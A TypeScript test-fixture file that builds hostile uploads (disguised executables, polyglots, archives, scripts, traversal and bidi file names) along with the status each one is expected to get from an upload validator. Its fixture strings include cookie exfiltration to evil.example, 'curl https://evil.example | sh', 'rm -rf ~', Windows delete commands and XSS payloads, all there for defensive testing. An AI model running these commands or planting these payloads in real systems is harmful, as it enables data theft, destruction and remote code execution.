import sharp from 'sharp';
import { compoundFile, docxWith, mp4Stub, odtWith, pdfWith, pngClaiming, zipOf } from './fileFixtures.ts';

/**
 * The hostile-file set (issue 5): files that lie about what they are, carry active content, hide
 * in their names, or break the rules of size and form. Each one is either refused with the right
 * status (and words naming what it really is), or accepted and neutralised (re-encoded, renamed,
 * served as an inert attachment). Built in memory, so the set documents itself.
 */

export type Expectation =
  | { status: 413 }
  | { status: 415; detected: RegExp }
  | { status: 400; message: RegExp }
  /** Accepted: what it is stored as, and the name it is offered back under. */
  | { status: 201; mimeType: string; fileName: string | RegExp };

export interface HostileFile {
  label: string;
  name: string;
  content: Buffer;
  expect: Expectation;
}

const html = (body: string) => Buffer.from(`<!DOCTYPE html><html><head><title>x</title></head><body>${body}</body></html>`);
const refused = (detected: RegExp) => ({ status: 415 as const, detected });
const accepted = (mimeType: string, fileName: string | RegExp) => ({ status: 201 as const, mimeType, fileName });

function elf(): Buffer {
  const b = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b);
  b.writeUInt16LE(2, 16);
  b.writeUInt16LE(0x3e, 18);
  return b;
}

function pe(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x14c, 0x84);
  return b;
}

function machO(): Buffer {
  const b = Buffer.alloc(64);
  b.writeUInt32LE(0xfeedfacf, 0);
  b.writeUInt32LE(0x01000007, 4);
  return b;
}

function tar(): Buffer {
  const b = Buffer.alloc(1024);
  b.write('notes.txt', 0, 'latin1');
  b.write('0000644\0', 100, 'latin1');
  b.write('00000000000\0', 124, 'latin1');
  b.write('ustar\0', 257, 'latin1');
  b.write('00', 263, 'latin1');
  let sum = 0;
  b.fill(0x20, 148, 156);
  for (const byte of b.subarray(0, 512)) sum += byte;
  b.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return b;
}

/** The limit the tests run with (UPLOAD_MAX_MB=1). */
export const TEST_LIMIT = 1024 * 1024;

/** JPEG/PNG/WebP with camera and GPS EXIF: accepted, but stored without any metadata. */
export async function imagesWithGps(): Promise<{ name: string; content: Buffer; mimeType: string }[]> {
  const exif = {
    IFD0: { Make: 'Acme', Model: 'Field camera', Artist: 'Victim name here' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '40/1 26/1 4600/100', GPSLongitudeRef: 'W', GPSLongitude: '79/1 58/1 5600/100' }
  };
  const base = () => sharp({ create: { width: 16, height: 12, channels: 3, background: '#336699' } });
  return [
    { name: 'scene.jpg', content: await base().jpeg().withExif(exif).toBuffer(), mimeType: 'image/jpeg' },
    { name: 'scene.png', content: await base().png().withExif(exif).toBuffer(), mimeType: 'image/png' },
    { name: 'scene.webp', content: await base().webp().withExif(exif).toBuffer(), mimeType: 'image/webp' }
  ];
}

export async function hostileFiles(): Promise<HostileFile[]> {
  const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#aa0000' } })
    .png()
    .toBuffer();
  const gif = Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(32)]);
  const text = (s: string) => Buffer.from(s, 'utf8');
  const files: HostileFile[] = [
    // Lies about type: active content under a document's name.
    { label: 'HTML named .pdf', name: 'protocol.pdf', content: html('<script>alert(1)</script>'), expect: refused(/HTML page/) },
    {
      label: 'PDF/HTML polyglot',
      name: 'polyglot.pdf',
      content: pdfWith('hello', { header: '<html><body><script>alert(1)</script></body></html>\n' }),
      expect: refused(/PDF\/HTML polyglot/)
    },
    {
      label: 'PDF with an iframe in its first kilobyte',
      name: 'frame.pdf',
      content: pdfWith('hello', { header: '% <iframe src="https://evil.example"></iframe>\n' }),
      expect: refused(/polyglot/)
    },
    {
      label: 'HTML with %PDF later on',
      name: 'late.pdf',
      content: Buffer.from('<html>\n%PDF-1.4\n<script>x()</script></html>'),
      expect: refused(/HTML page/)
    },
    { label: 'HTML named .txt', name: 'notes.txt', content: html('<p>hi</p>'), expect: refused(/HTML page/) },
    {
      label: 'HTML named .csv',
      name: 'data.csv',
      content: text('a,b\n<HTML><BODY onload=alert(1)>'),
      expect: refused(/HTML page/)
    },
    {
      label: 'HTML without doctype named .docx',
      name: 'letter.docx',
      content: text('<html><script>x</script></html>'),
      expect: refused(/HTML page/)
    },
    {
      label: 'text with a script tag',
      name: 'readme.txt',
      content: text('Hello\n<script src=//evil.example/x.js></script>'),
      expect: refused(/HTML page/)
    },
    {
      label: 'text with an iframe',
      name: 'frame.txt',
      content: text('<iframe src="javascript:alert(1)">'),
      expect: refused(/HTML page/)
    },
    {
      label: 'XHTML with an XML declaration',
      name: 'page.txt',
      content: text('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
      expect: refused(/HTML|XML/)
    },
    {
      label: 'SVG with script',
      name: 'logo.svg',
      content: text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      expect: refused(/SVG image/)
    },
    {
      label: 'SVG with script named .png',
      name: 'logo.png',
      content: text('<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>'),
      expect: refused(/SVG image/)
    },
    {
      label: 'SVG with an XML declaration',
      name: 'chart.jpg',
      content: text('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>'),
      expect: refused(/SVG image/)
    },
    { label: 'plain XML', name: 'data.xml', content: text('<?xml version="1.0"?><root><a>1</a></root>'), expect: refused(/XML/) },
    // Executables and installers renamed as documents.
    { label: 'ELF renamed .docx', name: 'report.docx', content: elf(), expect: refused(/Linux executable/) },
    { label: 'PE renamed .docx', name: 'report.docx', content: pe(), expect: refused(/Windows executable/) },
    { label: 'PE renamed .pdf', name: 'invoice.pdf', content: pe(), expect: refused(/Windows executable/) },
    { label: 'Mach-O renamed .xlsx', name: 'sheet.xlsx', content: machO(), expect: refused(/macOS executable/) },
    {
      label: 'compound file that is not Office (installer-like)',
      name: 'setup.doc',
      content: compoundFile('SummaryInformation'),
      expect: refused(/compound file/)
    },
    {
      label: 'WebAssembly',
      name: 'module.pdf',
      content: Buffer.concat([Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), Buffer.alloc(16)]),
      expect: refused(/WebAssembly/)
    },
    // Scripts.
    {
      label: 'JavaScript file',
      name: 'evil.js',
      content: text('fetch("https://evil.example/?c="+document.cookie)'),
      expect: refused(/script/)
    },
    {
      label: 'shell script',
      name: 'install.txt',
      content: text('#!/bin/sh\ncurl https://evil.example | sh\n'),
      expect: refused(/script/)
    },
    {
      label: 'shell script with a BOM',
      name: 'run.txt',
      content: text('\ufeff#!/usr/bin/env bash\nrm -rf ~\n'),
      expect: refused(/script/)
    },
    { label: 'Windows batch file', name: 'setup.bat', content: text('@echo off\r\ndel /q C:\\*\r\n'), expect: refused(/script/) },
    {
      label: 'PowerShell script',
      name: 'update.ps1',
      content: text('Invoke-WebRequest https://evil.example'),
      expect: refused(/script/)
    },
    { label: 'VBScript', name: 'macro.vbs', content: text('MsgBox "hi"'), expect: refused(/script/) },
    { label: 'HTA application', name: 'app.hta', content: text('Hello'), expect: refused(/script/) },
    { label: 'Python script', name: 'tool.py', content: text('import os\nos.system("id")\n'), expect: refused(/script/) },
    // Archives (refused by decision: their contents cannot be vouched for).
    {
      label: 'ZIP archive',
      name: 'bundle.zip',
      content: zipOf({ 'a.txt': 'hello', 'b.txt': 'world' }),
      expect: refused(/ZIP archive/)
    },
    { label: 'ZIP renamed .docx', name: 'forms.docx', content: zipOf({ 'payload.exe': pe() }), expect: refused(/ZIP archive/) },
    {
      label: 'ZIP renamed .pdf',
      name: 'scan.pdf',
      content: zipOf({ 'x.html': '<script>1</script>' }),
      expect: refused(/ZIP archive/)
    },
    {
      label: 'Java archive',
      name: 'tool.pdf',
      content: zipOf({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n' }),
      expect: refused(/Java archive|ZIP/)
    },
    {
      label: 'gzip',
      name: 'logs.txt',
      content: Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3, 4]),
      expect: refused(/gzip/)
    },
    {
      label: 'RAR',
      name: 'files.pdf',
      content: Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.alloc(32)]),
      expect: refused(/RAR/)
    },
    {
      label: '7-Zip',
      name: 'files.docx',
      content: Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(32)]),
      expect: refused(/7-Zip/)
    },
    {
      label: 'bzip2',
      name: 'data.csv',
      content: Buffer.concat([Buffer.from('BZh91AY&SY', 'latin1'), Buffer.alloc(32)]),
      expect: refused(/bzip2/)
    },
    {
      label: 'XZ',
      name: 'data.txt',
      content: Buffer.concat([Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0]), Buffer.alloc(32)]),
      expect: refused(/XZ/)
    },
    { label: 'TAR', name: 'backup.txt', content: tar(), expect: refused(/TAR/) },
    // Not on the allowlist.
    { label: 'GIF image', name: 'anim.gif', content: gif, expect: refused(/GIF image/) },
    { label: 'text with a NUL byte', name: 'notes.txt', content: Buffer.from('hello\0world'), expect: refused(/unknown type/) },
    {
      label: 'text with control characters',
      name: 'notes.txt',
      content: Buffer.from('bell\u0007 and escape\u001b[31m'),
      expect: refused(/unknown type/)
    },
    {
      label: 'invalid UTF-8',
      name: 'latin.txt',
      content: Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x20, 0xff, 0xfe]),
      expect: refused(/unknown type/)
    },
    {
      label: 'random bytes',
      name: 'blob.pdf',
      content: Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 131 + 7) % 256)),
      expect: refused(/unknown type/)
    },
    // Damaged or oversized images.
    {
      label: 'PNG claiming 100,000 × 100,000 pixels',
      name: 'bomb.png',
      content: pngClaiming(100_000, 100_000),
      expect: refused(/PNG image that could not be read/)
    },
    {
      label: 'truncated JPEG',
      name: 'broken.jpg',
      content: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(40, 0x41)]),
      expect: refused(/JPEG image that could not be read/)
    },
    // Size.
    { label: 'empty file', name: 'empty.pdf', content: Buffer.alloc(0), expect: { status: 400, message: /empty/ } },
    { label: 'limit + 1 bytes', name: 'big.txt', content: Buffer.alloc(TEST_LIMIT + 1, 0x61), expect: { status: 413 } },
    { label: 'twice the limit', name: 'bigger.pdf', content: Buffer.alloc(TEST_LIMIT * 2, 0x25), expect: { status: 413 } },
    // Hostile names: accepted, the name neutralised.
    {
      label: 'name with ../',
      name: '../../etc/passwd.txt',
      content: text('plain words'),
      expect: accepted('text/plain; charset=utf-8', 'passwd.txt')
    },
    {
      label: 'name with backslashes',
      name: '..\\..\\windows\\system32\\notes.txt',
      content: text('plain words 2'),
      expect: accepted('text/plain; charset=utf-8', 'notes.txt')
    },
    {
      label: 'name with NUL',
      name: 'report\u0000.exe.txt',
      content: text('plain words 3'),
      expect: accepted('text/plain; charset=utf-8', 'report.exe.txt')
    },
    {
      label: 'name with right-to-left override',
      name: 'invoice\u202Etxt.exe',
      content: pdfWith('rlo'),
      expect: accepted('application/pdf', 'invoicetxt.pdf')
    },
    {
      label: 'name with bidi isolates and zero-width characters',
      name: 'a\u2066b\u200bc\u2069.pdf',
      content: pdfWith('isolates'),
      expect: accepted('application/pdf', 'abc.pdf')
    },
    {
      label: 'name of 300 characters',
      name: `${'n'.repeat(296)}.pdf`,
      content: pdfWith('long name'),
      expect: accepted('application/pdf', `${'n'.repeat(116)}.pdf`)
    },
    {
      label: 'name of only dots',
      name: '....',
      content: text('dots'),
      expect: accepted('text/plain; charset=utf-8', 'file.txt')
    },
    {
      label: 'reserved Windows name',
      name: 'CON.txt',
      content: text('console'),
      expect: accepted('text/plain; charset=utf-8', 'CON_file.txt')
    },
    {
      label: 'name with quotes and reserved characters',
      name: 'a"b<c>d|e?.pdf',
      content: pdfWith('quotes'),
      expect: accepted('application/pdf', 'a_b_c_d_e_.pdf')
    },
    {
      label: 'real PDF named .exe',
      name: 'setup.exe',
      content: pdfWith('renamed'),
      expect: accepted('application/pdf', 'setup.pdf')
    },
    { label: 'real PNG named .html', name: 'page.html', content: png, expect: accepted('image/png', 'page.png') },
    {
      label: 'JavaScript named .txt (served as inert text)',
      name: 'notes.txt',
      content: text('alert(document.cookie)'),
      expect: accepted('text/plain; charset=utf-8', 'notes.txt')
    },
    // Allowed kinds, for contrast.
    {
      label: 'Word document',
      name: 'mou.docx',
      content: docxWith('memorandum of understanding'),
      expect: accepted('application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'mou.docx')
    },
    {
      label: 'OpenDocument text',
      name: 'plan.odt',
      content: odtWith('service plan'),
      expect: accepted('application/vnd.oasis.opendocument.text', 'plan.odt')
    },
    {
      label: 'legacy Word document',
      name: 'old.doc',
      content: compoundFile('WordDocument'),
      expect: accepted('application/msword', 'old.doc')
    },
    { label: 'MP4 video', name: 'training.mp4', content: mp4Stub(), expect: accepted('video/mp4', 'training.mp4') },
    {
      label: 'CSV',
      name: 'contacts.csv',
      content: text('agency,county\nPD,Allegheny\n'),
      expect: accepted('text/csv; charset=utf-8', 'contacts.csv')
    },
    {
      label: 'exactly the limit',
      name: 'limit.txt',
      content: Buffer.alloc(TEST_LIMIT, 0x62),
      expect: accepted('text/plain; charset=utf-8', 'limit.txt')
    }
  ];
  return files;
}
